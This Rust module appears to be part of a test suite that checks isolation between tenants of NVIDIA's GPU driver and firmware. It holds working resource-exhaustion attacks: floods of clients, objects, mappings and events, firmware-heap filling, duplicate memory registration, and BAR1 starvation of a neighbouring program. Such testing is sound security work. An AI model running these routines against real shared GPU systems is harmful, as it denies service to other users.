// SPDX-License-Identifier: GPL-2.0
//! Things of which the driver and the GPU's firmware have one store for everybody.

use super::{
    attack::{attacks, Own},
    rest::alone,
    scene::{escape, in_instances, open_client, told, Attacker, Place, GPU, MIB, OWN},
};
use crate::{
    bytes::{put_u32, put_u64},
    guest::{rm, tools::Verdict},
    layout, standin, sys,
};

attacks! {
    "clients without end": "rs_server.c:_serverCreateEntryAndLockForNewClient",
        Passes, Told, clients;
    "objects without end": "rs_client.c:clientAllocResource_IMPL", Passes, Told, objects;
    "objects mapped without end": "rs_resource.c:refAddMapping", Passes, Told, mappings;
    "memory registered more than once (REGISTER_VIDMEM)": "third_party_p2p.c:CliAddThirdPartyP2PVidmemInfo",
        Refuses, Told, second_record;
    "events without end": "event.c:eventConstruct_IMPL", Passes, Told, events;
    "the firmware's heap filled by a GPU's memory (REGISTER_MEMDESC_TO_PHYS_RM)": "mem.c:memConstructCommon_IMPL",
        Passes, Gpu, |a| known(a, 0x40, 0x1_C101, 0x1800_0000);
    "the firmware's heap filled by host memory (REGISTER_MEMDESC_TO_PHYS_RM)": "mem.c:memConstructCommon_IMPL",
        Passes, Gpu, |a| known(a, rm::SYSTEM_MEMORY, 0xC001, 0x3A00_0000);
    "the firmware's heap filled by the older call (RM_ALLOC_MEMORY)": "rmapi_deprecated_utils.c:RmDeprecatedConvertOs02ToOs32Flags",
        Passes, Gpu, known_by_flag;
    "an object freed inside a tree (REGISTER_MEMDESC_TO_PHYS_RM of addresses)": "mem.c:memConstructCommon_IMPL",
        Passes, Gpu, |a| known(a, 0x50A0, 0x8_0000, 0);
}

/// More than an instance of 16 may have of each.
const CLIENTS: u32 = 1000;
const OBJECTS: u32 = 20_000;
const EVENTS: u32 = 5000;
/// The descriptor's number in the key of the events.
const KEY: u32 = 5;

/// Makes things until so many are there.
fn many(most: u32, what: &str, mut make: impl FnMut(u32) -> Verdict) -> Verdict {
    for count in 0..most {
        make(count).map_err(|end| format!("{end} after {count} {what}"))?;
    }
    Ok(())
}

fn clients(attacker: &Attacker) -> Verdict {
    many(CLIENTS, "clients", |_| {
        told(rm::alloc(attacker.client.ctl, 0, 0, 0, rm::ROOT, &mut []))
    })
}

fn objects(attacker: &Attacker) -> Verdict {
    many(OBJECTS, "objects", |count| {
        attacker.alloc(rm::SUBDEVICE_HANDLE, OWN + count, rm::USERMODE, &mut [])
    })
}

/// Maps a page of host memory, each time by a file that is closed. The driver keeps a record.
fn mappings(attacker: &Attacker) -> Verdict {
    let made = attacker.client.system_page(OWN);
    attacker.prepare("host memory", made)?;
    let path = format!("{}/nvidiactl", attacker.folder);
    let names = (attacker.client.handle, rm::DEVICE_HANDLE, OWN);
    many(OBJECTS, "mappings", |_| {
        let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC);
        let fd = attacker.prepare(&path, fd)?;
        let mapped = rm::map(attacker.client.ctl, names, 4096, rm::MAP_OF_MEMORY, fd);
        let _ = sys::close(fd);
        told(mapped)
    })
}

/// Registers memory with an object for other devices.
fn register(attacker: &Attacker, peer: u32, memory: u32, address: u64) -> Verdict {
    let mut params = [0; 32];
    put_u32(&mut params, 0, memory);
    put_u64(&mut params, 8, address);
    put_u64(&mut params, 16, 2 * MIB);
    attacker.control(peer, 0x503c_0104, &mut params)
}

/// The driver keeps a record of each registration. It has one of each piece of memory at most, so
/// they are bounded by the objects. A device has one subdevice, that one object for other devices,
/// and the memory is of that device.
fn second_record(a: &Attacker) -> Verdict {
    const MEMORY: u32 = OWN + 1;
    const OTHER: u32 = OWN + 2;
    a.memory(MEMORY, 2 * MIB)?;
    a.peer_memory(OWN)?;
    let registered = register(a, OWN, MEMORY, 0);
    a.prepare("registered memory", registered)?;
    let mut device = [0; 56];
    put_u32(&mut device, 0, a.victim.gpus.instance);
    // Branch 535 has one of a GPU in a client.
    let beside = a
        .alloc(a.client.handle, OTHER, rm::DEVICE, &mut device)
        .and_then(|()| a.alloc(OTHER, OTHER + 1, rm::SUBDEVICE, &mut [0; 4]))
        .and_then(|()| a.alloc(OTHER + 1, OTHER + 2, 0x503c, &mut [1, 0, 0, 0]))
        .and_then(|()| register(a, OTHER + 2, MEMORY, 0));
    let ways = [
        beside,
        register(a, OWN, MEMORY, 1 << 40),
        a.alloc(rm::SUBDEVICE_HANDLE, OTHER + 3, 0x503c, &mut [1, 0, 0, 0]),
        a.alloc(rm::DEVICE_HANDLE, OTHER + 4, rm::SUBDEVICE, &mut [0; 4]),
    ];
    // With the memory its record goes, so that another piece can be where it was.
    a.prepare("a free", told(a.client.free(MEMORY)))?;
    a.memory(MEMORY, 2 * MIB)?;
    let after = register(a, OWN, MEMORY, 0);
    a.prepare("new memory where the former was", after)?;
    let refused: Vec<String> = ways.iter().filter_map(|way| way.clone().err()).collect();
    if refused.len() < ways.len() {
        return Ok(());
    }
    Err(refused.join(", "))
}

/// Memory or a range of addresses of 2 MiB that the firmware is to know.
fn known(attacker: &Attacker, class: u32, flags: u32, attr: u32) -> Verdict {
    let mut params = rm::memory_params(attacker.client.handle, 2 * MIB);
    put_u32(&mut params, 8, flags);
    put_u32(&mut params, 24, attr);
    put_u32(&mut params, 28, 1 << 31);
    attacker.alloc(rm::DEVICE_HANDLE, OWN, class, &mut params)
}

/// Host memory that the firmware is to know: cached, and not mapped.
fn known_by_flag(attacker: &Attacker) -> Verdict {
    let mut outer = [0; 56];
    put_u32(&mut outer, 0, attacker.client.handle);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, OWN);
    put_u32(&mut outer, 12, rm::SYSTEM_MEMORY);
    put_u32(&mut outer, 16, 1 << 27 | 0x4000_1000);
    put_u64(&mut outer, 32, 2 * MIB - 1);
    told(escape(attacker.client.gpu, 0x27, &mut outer, 40))
}

fn events(attacker: &Attacker) -> Verdict {
    attacker.event_key(KEY)?;
    many(EVENTS, "events", |count| {
        let mut params = [0; 24];
        put_u32(&mut params, 0, attacker.client.handle);
        put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
        put_u32(&mut params, 12, rm::ENGINE_EVENT);
        put_u64(&mut params, 16, u64::from(KEY));
        let class = layout::CLASS_OS_EVENT;
        attacker.alloc(rm::SUBDEVICE_HANDLE, OWN + count, class, &mut params)
    })
}

/// On the module: both programs are made here.
pub(super) const OWN_ATTACKS: &[Own] = &[Own {
    name: "BAR1 taken that a neighbour's programs need",
    function: "kern_bus_gm107.c:kbusMapFbAperture_GM107",
    run: bar1,
}];

/// More than an H200's BAR1 of 256 GiB, by mappings of so many bytes.
const MAPPINGS: u32 = 600;
const PIECE: u64 = 512 * MIB;

/// How many mappings of a piece of memory a program gets, each of a file that it closes.
fn fill_bar1(client: &rm::Client, folder: &str) -> Result<(u32, String), String> {
    told(client.memory(OWN, PIECE))?;
    let path = format!("{folder}/nvidia{GPU}");
    let names = (client.handle, rm::DEVICE_HANDLE, OWN);
    for count in 0..MAPPINGS {
        let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC);
        let fd = fd.map_err(|errno| format!("{path}: errno {errno}"))?;
        let mapped = rm::map(client.ctl, names, PIECE, rm::MAP_OF_MEMORY, fd);
        sys::close(fd).map_err(|errno| format!("close: errno {errno}"))?;
        if let Err(end) = mapped {
            return Ok((count, end.to_string()));
        }
    }
    Err("there is no end of BAR1".to_owned())
}

/// Whether a neighbour can map memory while a program has taken all that it gets.
fn beside(place: Place) -> Result<(bool, String), String> {
    let (own, other) = (place.folder("attacker"), place.folder("victim"));
    let (attacker, victim) = (open_client(&own)?, open_client(&other)?);
    let (count, end) = fill_bar1(&attacker, &own)?;
    told(victim.memory(OWN, 2 * MIB))?;
    let names = (victim.handle, rm::DEVICE_HANDLE, OWN);
    let mapped = rm::map(victim.ctl, names, 2 * MIB, rm::MAP_OF_MEMORY, victim.gpu);
    attacker.close();
    victim.close();
    Ok((mapped.is_ok(), format!("{end} after {count} mappings")))
}

fn bar1() -> Result<String, String> {
    standin::parameter("static_bar1", 0)?;
    let ran = bar1_in_both();
    standin::parameter("static_bar1", 1)?;
    ran
}

fn bar1_in_both() -> Result<String, String> {
    let (is_well, how) = alone(|| beside(Place::Driver))?;
    if is_well {
        return Err(format!("does not work on the driver: {how}"));
    }
    match in_instances(|| beside(Place::Instance))? {
        (true, how) => Ok(format!("refused: {how}")),
        (false, how) => Err(format!("the neighbour has none: {how}")),
    }
}
